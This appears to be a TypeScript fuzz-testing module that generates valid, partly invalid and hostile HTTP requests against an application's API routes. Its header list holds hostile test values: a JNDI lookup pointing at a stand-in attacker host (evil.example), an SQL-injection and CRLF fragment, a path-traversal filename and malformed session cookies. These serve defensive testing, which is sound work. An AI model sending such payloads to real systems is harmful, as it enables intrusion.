import type { Random } from '../fixtures/random.ts';
import { HOSTILE_BODIES, hostileValue } from './hostile-values.ts';
import { HOSTILE_TEXTS } from './hostile-texts.ts';
import { type Known, spoil, validValue } from './make-input.ts';
import type { ApiRoute } from './routes-of.ts';
import { makeQuery, encodeText } from './make-query.ts';

export interface FuzzRequest {
  method: string;
  /** The path and query as sent. */
  url: string;
  headers: Record<string, string>;
  body?: string | Buffer;
}

const CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'text/event-stream',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'application/octet-stream',
  '',
  ';;;',
];
const HEADERS: [string, string][] = [
  ['accept-language', '\u00ff'.repeat(30)],
  ['accept', 'text/html'],
  ['accept', ';;;'],
  ['user-agent', 'x'.repeat(2000)],
  ['user-agent', '${jndi:ldap://evil.example/a}'],
  ['range', 'bytes=9-1'],
  ['if-none-match', '*'],
  ['content-disposition', 'attachment; filename="../x"'],
  ['last-event-id', '\u00e9'],
  ['x-forwarded-for', 'not an address'],
  ['x-forwarded-for', "1.1.1.1, ' OR 1=1, ::1%0d%0a"],
  ['x-http-method-override', 'DELETE'],
  ['expect', '100-continue'],
  ['cookie', 'closeup.session_token=%00.%E0%A4%A; lang=xx; a=b'],
  ['cookie', `closeup.session_token=${'x'.repeat(60)}.${'A'.repeat(44)}`],
];

/** A request for a route: a third of them valid, a third with one invalid place, a third hostile throughout. */
export function makeApiRequest(route: ApiRoute, random: Random, known: Known): FuzzRequest {
  const kind = random.upTo(3);
  const path = route.path.replace(/\{(\w+)\}/g, (_whole, name: string) => {
    const schema = route.parameters?.find((parameter) => parameter.in === 'path' && parameter.name === name)?.schema;
    const valid = String(validValue(schema ?? {}, name, random, known));
    if (kind === 0 || random.upTo(3) > 0) return encodeURIComponent(valid);
    return encodeText(String(random.pick(HOSTILE_TEXTS)), random) || '%20';
  });
  const query = makeQuery(route, kind, random, known);
  const headers: Record<string, string> = {};
  const request: FuzzRequest = { method: route.method, url: `/api${path}${query}`, headers };
  const schema = route.requestBody?.content['application/json']?.schema;
  if (route.method !== 'GET' && (schema || kind > 0)) {
    headers['content-type'] = 'application/json';
    const valid = schema ? validValue(schema, '', random, known) : {};
    request.body =
      kind === 0
        ? JSON.stringify(valid)
        : kind === 1
          ? JSON.stringify(times(1 + random.upTo(3), valid, (value) => spoil(value, random)))
          : random.upTo(2) === 0
            ? random.pick(HOSTILE_BODIES)
            : JSON.stringify(hostileValue(random));
    if (kind > 0 && random.upTo(8) === 0) headers['content-type'] = random.pick(CONTENT_TYPES);
  }
  if (kind > 0 && random.upTo(6) === 0) {
    const [name, value] = random.pick(HEADERS);
    headers[name] = value;
  }
  if (kind === 2 && random.upTo(20) === 0)
    request.method = random.pick(['GET', 'PUT', 'PATCH', 'POST', 'DELETE', 'OPTIONS', 'HEAD']);
  return request;
}

function times<T>(count: number, value: T, change: (value: T) => T): T {
  let changed = value;
  for (let done = 0; done < count; done++) changed = change(changed);
  return changed;
}
